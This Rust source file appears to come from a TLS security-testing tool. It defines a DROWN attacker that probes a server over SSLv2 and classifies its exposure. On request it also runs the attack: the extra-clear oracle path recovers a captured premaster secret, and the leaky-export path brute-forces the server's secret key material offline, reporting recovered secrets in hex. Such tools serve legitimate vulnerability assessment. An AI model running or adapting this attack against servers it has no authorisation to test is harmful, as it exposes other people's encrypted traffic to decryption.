// DrownAttacker - probe, classify, and optionally exploit a target
//
// Classification follows NOT_STARTED -> PROBED -> verdict. Any probe that
// does not complete is reported as UNKNOWN, never as NONE.

use super::capability::{ConnectionSetup, SessionProbe};
use super::extra_clear::{ExtraClearAttack, ExtraClearSettings};
use super::leaky_export::{
    capture_check_data, load_check_data, save_check_data, BruteForceOutcome,
    LeakyExportBruteForcer,
};
use super::oracle::ExtraClearOracle;
use super::rsa::RsaPublicContext;
use super::{DrownVulnerabilityType, OracleKind};
use crate::config::AttackConfig;
use crate::Result;
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::path::Path;
use std::time::Duration;
use tracing::{error, info, warn};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackerPhase {
    NotStarted,
    Probed,
    Classified(DrownVulnerabilityType),
}

/// Outcome of one drownrun invocation against a target
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DrownReport {
    pub target: String,
    pub oracle: OracleKind,
    pub vulnerability: DrownVulnerabilityType,
    /// 0-based index of the captured Premaster secret that converted
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pms_index: Option<usize>,
    /// Recovered (padded) Premaster secret, hex
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub premaster_secret: Option<String>,
    /// SECRET-KEY-DATA found by the leaky export analysis, hex
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub recovered_secret_key: Option<String>,
    /// Why the attack could not be completed, if it was attempted
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub attack_failure: Option<String>,
    pub timestamp: DateTime<Utc>,
}

impl DrownReport {
    fn new(target: &str, oracle: OracleKind, vulnerability: DrownVulnerabilityType) -> Self {
        Self {
            target: target.to_string(),
            oracle,
            vulnerability,
            pms_index: None,
            premaster_secret: None,
            recovered_secret_key: None,
            attack_failure: None,
            timestamp: Utc::now(),
        }
    }

    /// Serialize to JSON
    pub fn to_json(&self, pretty: bool) -> Result<String> {
        if pretty {
            Ok(serde_json::to_string_pretty(self)?)
        } else {
            Ok(serde_json::to_string(self)?)
        }
    }
}

pub struct DrownAttacker {
    target: String,
    config: AttackConfig,
    phase: AttackerPhase,
}

impl DrownAttacker {
    pub fn new(target: impl Into<String>, config: AttackConfig) -> Self {
        Self {
            target: target.into(),
            config,
            phase: AttackerPhase::NotStarted,
        }
    }

    pub fn phase(&self) -> AttackerPhase {
        self.phase
    }

    pub fn config(&self) -> &AttackConfig {
        &self.config
    }

    /// Test for the extra-clear oracle and, when present and secrets were
    /// captured, recover the first convertible Premaster secret.
    pub fn run_extra_clear<S, P>(
        &mut self,
        setup: &S,
        probe: P,
        premaster_secrets: Option<&[Vec<u8>]>,
    ) -> Result<DrownReport>
    where
        S: ConnectionSetup + ?Sized,
        P: SessionProbe,
    {
        let oracle_kind = OracleKind::ExtraClear;
        let rsa = match self.probe(setup) {
            Ok(rsa) => rsa,
            Err(vulnerability) => return Ok(self.finish(oracle_kind, vulnerability)),
        };

        let oracle = ExtraClearOracle::new(
            probe,
            self.config.cipher_suite,
            self.config.key_byte_retries,
        );
        let vulnerability = match oracle.check_for_extra_clear_oracle(&rsa) {
            Ok(vulnerability) => vulnerability,
            Err(e) => {
                warn!("Extra-clear oracle check did not complete: {}", e);
                DrownVulnerabilityType::Unknown
            }
        };
        let mut report = self.finish(oracle_kind, vulnerability);

        if vulnerability != DrownVulnerabilityType::Special {
            return Ok(report);
        }
        let Some(secrets) = premaster_secrets else {
            info!("No captured Premaster secrets given, not running the attack");
            return Ok(report);
        };

        let settings = ExtraClearSettings::from_config(&self.config);
        let mut attack = ExtraClearAttack::new(&oracle, rsa, settings);
        match attack.execute(secrets) {
            Ok(premaster) => {
                report.premaster_secret = Some(hex::encode(premaster));
            }
            Err(e) => {
                error!("Could not complete attack: {}", e);
                report.attack_failure = Some(e.to_string());
            }
        }
        report.pms_index = attack.state().step1.as_ref().map(|s| s.pms_index);
        info!("Oracle answered {} queries", oracle.queries());

        Ok(report)
    }

    /// Leaky export capture phase: connect once and persist the handshake.
    ///
    /// A saved capture yields UNKNOWN; the verdict comes from analysis.
    pub fn generate_check_data<S, P>(
        &mut self,
        setup: &S,
        probe: &P,
        path: &Path,
    ) -> Result<DrownReport>
    where
        S: ConnectionSetup + ?Sized,
        P: SessionProbe + ?Sized,
    {
        let oracle_kind = OracleKind::LeakyExport;
        let rsa = match self.probe(setup) {
            Ok(rsa) => rsa,
            Err(vulnerability) => return Ok(self.finish(oracle_kind, vulnerability)),
        };

        match capture_check_data(probe, &rsa, self.config.cipher_suite) {
            Ok(Some(data)) => {
                save_check_data(path, &data)?;
                info!("Run the analysis phase on {} for a verdict", path.display());
                Ok(self.finish(oracle_kind, DrownVulnerabilityType::Unknown))
            }
            Ok(None) => Ok(self.finish(oracle_kind, DrownVulnerabilityType::None)),
            Err(e) => {
                warn!("Leaky export capture did not complete: {}", e);
                Ok(self.finish(oracle_kind, DrownVulnerabilityType::Unknown))
            }
        }
    }

    /// Leaky export analysis phase, fully offline.
    pub fn analyze_check_data(&mut self, path: &Path) -> Result<DrownReport> {
        let data = load_check_data(path)?;
        self.phase = AttackerPhase::Probed;

        let forcer = LeakyExportBruteForcer::new(self.config.effective_workers())
            .with_known_prefix(&self.config.leaky_known_prefix)
            .with_poll_interval(Duration::from_secs(self.config.leaky_poll_interval_secs.max(1)));

        let report = match forcer.run(&data)? {
            BruteForceOutcome::Found { secret_key } => {
                let mut report =
                    self.finish(OracleKind::LeakyExport, DrownVulnerabilityType::Special);
                report.recovered_secret_key = Some(hex::encode(secret_key));
                report
            }
            BruteForceOutcome::Exhausted => {
                info!("Could not find server randomness, declaring host not vulnerable");
                self.finish(OracleKind::LeakyExport, DrownVulnerabilityType::Ssl2)
            }
        };
        Ok(report)
    }

    /// Initial handshake; `Err` carries the verdict when there is nothing
    /// left to test
    fn probe<S: ConnectionSetup + ?Sized>(
        &mut self,
        setup: &S,
    ) -> std::result::Result<RsaPublicContext, DrownVulnerabilityType> {
        match setup.fetch_public_key() {
            Ok(Some(rsa)) => {
                info!("Server RSA modulus has {} bits", rsa.bits());
                self.phase = AttackerPhase::Probed;
                Ok(rsa)
            }
            Ok(None) => {
                self.phase = AttackerPhase::Probed;
                Err(DrownVulnerabilityType::None)
            }
            Err(e) => {
                warn!("Initial SSLv2 probe did not complete: {}", e);
                Err(DrownVulnerabilityType::Unknown)
            }
        }
    }

    fn finish(&mut self, oracle: OracleKind, vulnerability: DrownVulnerabilityType) -> DrownReport {
        self.phase = AttackerPhase::Classified(vulnerability);
        info!("{} oracle verdict for {}: {}", oracle, self.target, vulnerability);
        DrownReport::new(&self.target, oracle, vulnerability)
    }
}
